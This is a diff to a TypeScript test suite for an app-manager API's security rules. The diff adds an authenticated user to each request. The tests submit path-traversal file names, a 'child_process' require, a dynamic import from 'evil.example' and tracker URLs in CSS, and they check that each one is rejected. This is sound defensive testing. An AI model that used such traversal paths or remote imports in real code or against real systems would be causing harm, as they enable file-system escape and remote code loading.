@@ -1,6 +1,6 @@
 import { MAX_APP_FILE_BYTES, type BuildDiagnostic } from '@sm/events';
 import { MAX_APP_REQUEST_BYTES } from './routes';
-import { transports } from './test-setup';
+import { alice, transports } from './test-setup';
 
 const appImporting = (specifier: string) =>
   `import thing from ${JSON.stringify(specifier)};\n\nexport function App() {\n  return <p>{String(thing)}</p>;\n}\n`;
@@ -22,7 +22,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     ])('answers 400 naming the path for %s, and builds nothing', async (_case, path, reason) => {
       const { client, apps } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { [path]: 'export {}' } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { [path]: 'export {}' } } });
 
       expect(response.status).toBe(400);
       expect(response.json).toMatchObject({
@@ -37,6 +37,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
       const { client, apps } = start();
 
       const response = await client({
+        as: alice,
         method: 'POST',
         path: '/api/apps',
         headers: { 'content-type': 'application/json' },
@@ -55,7 +56,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     ])('answers 422 for %s with a lone surrogate, rather than storing it mangled', async (_case, body, path) => {
       const { client, apps } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body });
 
       expect(response.status).toBe(422);
       expect(response.json).toMatchObject({ errors: [{ path, message: expect.stringContaining('well-formed Unicode') }] });
@@ -65,7 +66,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     it('names every path at fault at once', async () => {
       const { client } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { '../a.js': '', 'src/ok.ts': '', '/b.js': '' } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'sneaky', files: { '../a.js': '', 'src/ok.ts': '', '/b.js': '' } } });
 
       expect(response.status).toBe(400);
       expect(response.json).toMatchObject({ errors: [{ path: 'files.../a.js' }, { path: 'files./b.js' }] });
@@ -74,7 +75,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     it('answers 400 for two spellings of one file', async () => {
       const { client } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'twice', files: { 'src/App.tsx': 'a', './src//App.tsx': 'b' } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'twice', files: { 'src/App.tsx': 'a', './src//App.tsx': 'b' } } });
 
       expect(response.status).toBe(400);
       expect(response.json).toMatchObject({ detail: 'file path "./src//App.tsx" is not allowed: it names the same file as "src/App.tsx"' });
@@ -87,8 +88,8 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
         'src/App.tsx': 'import { greeting } from "./Greeting";\n\nexport function App() {\n  return <p>{greeting}</p>;\n}\n',
       };
 
-      const created = await client({ method: 'POST', path: '/api/apps', body: { name: 'tidy', files } });
-      const source = await client({ method: 'GET', path: '/api/apps/tidy/source' });
+      const created = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'tidy', files } });
+      const source = await client({ as: alice, method: 'GET', path: '/api/apps/tidy/source' });
 
       expect(created.status).toBe(201);
       expect(source.json).toMatchObject({ files: { 'src/Greeting.tsx': files['./src//Greeting.tsx'] } });
@@ -96,12 +97,12 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
 
     it('answers 400 on update too, keeping the app as it was', async () => {
       const { client } = start();
-      await client({ method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });
+      await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });
 
-      const response = await client({ method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files: { '../../x.js': '' } } });
+      const response = await client({ as: alice, method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files: { '../../x.js': '' } } });
 
       expect(response.status).toBe(400);
-      expect((await client({ method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
+      expect((await client({ as: alice, method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
     });
   });
 
@@ -119,7 +120,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     ])('answers 422 naming the import and the file for %s, and stores nothing', async (_case, specifier, reason) => {
       const { client, apps } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'importer', files: { 'src/App.tsx': appImporting(specifier) } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'importer', files: { 'src/App.tsx': appImporting(specifier) } } });
 
       expect(response.status).toBe(422);
       expect(response.json).toMatchObject({
@@ -136,7 +137,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
         'src/helper.ts': 'export const Helper = require("child_process");\nexport const later = () => import("https://evil.example/x.js");\n',
       };
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'importer', files } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'importer', files } });
 
       expect(response.status).toBe(422);
       const { errors } = response.json as { errors: BuildDiagnostic[] };
@@ -147,6 +148,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
       const { client } = start();
 
       const response = await client({
+        as: alice,
         method: 'POST',
         path: '/api/apps',
         body: { name: 'styled', files: { 'src/styles.css': 'body {\n  background: url(https://tracker.example/pixel.png);\n}\n' } },
@@ -160,7 +162,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
       const { client } = start();
       const css = 'a {\n  filter: url(#blur);\n}\nb {\n  background: url("data:image/png;base64,AAAA");\n}\n';
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'styled', files: { 'src/styles.css': css } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'styled', files: { 'src/styles.css': css } } });
 
       expect(response.status).toBe(422);
       expect(response.json).toMatchObject({ errors: [{ file: 'src/styles.css', line: 5, text: expect.stringContaining('is a URL') }] });
@@ -185,7 +187,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
         'src/logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
       };
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'allowed', files } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'allowed', files } });
 
       expect(response.status).toBe(201);
     });
@@ -196,7 +198,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
       const { client } = start();
       const files = Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`src/f${n}.ts`, '']));
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'many', files } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'many', files } });
 
       expect(response.status).toBe(413);
       expect(response.json).toMatchObject({ detail: 'files has 101 entries; the limit is 100 files' });
@@ -205,7 +207,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     it('answers 413 naming the file for a file over 256 KiB', async () => {
       const { client } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'big', files: { 'src/big.ts': 'x'.repeat(MAX_APP_FILE_BYTES + 1) } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'big', files: { 'src/big.ts': 'x'.repeat(MAX_APP_FILE_BYTES + 1) } } });
 
       expect(response.status).toBe(413);
       expect(response.json).toMatchObject({ detail: `file "src/big.ts" is ${MAX_APP_FILE_BYTES + 1} bytes; the limit is ${MAX_APP_FILE_BYTES} bytes per file` });
@@ -214,7 +216,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     it('counts UTF-8 bytes, not characters, against the file limit', async () => {
       const { client } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'wide', files: { 'src/wide.ts': '架'.repeat(MAX_APP_FILE_BYTES / 3 + 1) } } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'wide', files: { 'src/wide.ts': '架'.repeat(MAX_APP_FILE_BYTES / 3 + 1) } } });
 
       expect(response.status).toBe(413);
     });
@@ -223,7 +225,7 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
       const { client } = start();
       const files = Object.fromEntries(Array.from({ length: 9 }, (_, n) => [`src/part${n}.ts`, 'x'.repeat(MAX_APP_FILE_BYTES - 1000)]));
 
-      const response = await client({ method: 'POST', path: '/api/apps', body: { name: 'heavy', files } });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'heavy', files } });
 
       expect(response.status).toBe(413);
       expect(response.json).toMatchObject({ detail: expect.stringMatching(/^files total \d+ bytes; the limit is 2097152 bytes in all$/) });
@@ -232,20 +234,20 @@ describe.each(transports)('react-app-manager’s security rules through the %s',
     it('answers 413 for a request body over 4 MiB, before reading it as JSON', async () => {
       const { client } = start();
 
-      const response = await client({ method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body: `{"name":"huge","files":{"src/a.ts":"${'x'.repeat(MAX_APP_REQUEST_BYTES)}"}}` });
+      const response = await client({ as: alice, method: 'POST', path: '/api/apps', headers: { 'content-type': 'application/json' }, body: `{"name":"huge","files":{"src/a.ts":"${'x'.repeat(MAX_APP_REQUEST_BYTES)}"}}` });
 
       expect(response.status).toBe(413);
     });
 
     it('answers 413 on update too, keeping the app as it was', async () => {
       const { client } = start();
-      await client({ method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });
+      await client({ as: alice, method: 'POST', path: '/api/apps', body: { name: 'kept', title: 'Kept' } });
       const files = Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`src/f${n}.ts`, '']));
 
-      const response = await client({ method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files } });
+      const response = await client({ as: alice, method: 'PUT', path: '/api/apps/kept', body: { title: 'Changed', files } });
 
       expect(response.status).toBe(413);
-      expect((await client({ method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
+      expect((await client({ as: alice, method: 'GET', path: '/api/apps/kept' })).json).toMatchObject({ title: 'Kept' });
     });
   });
 });
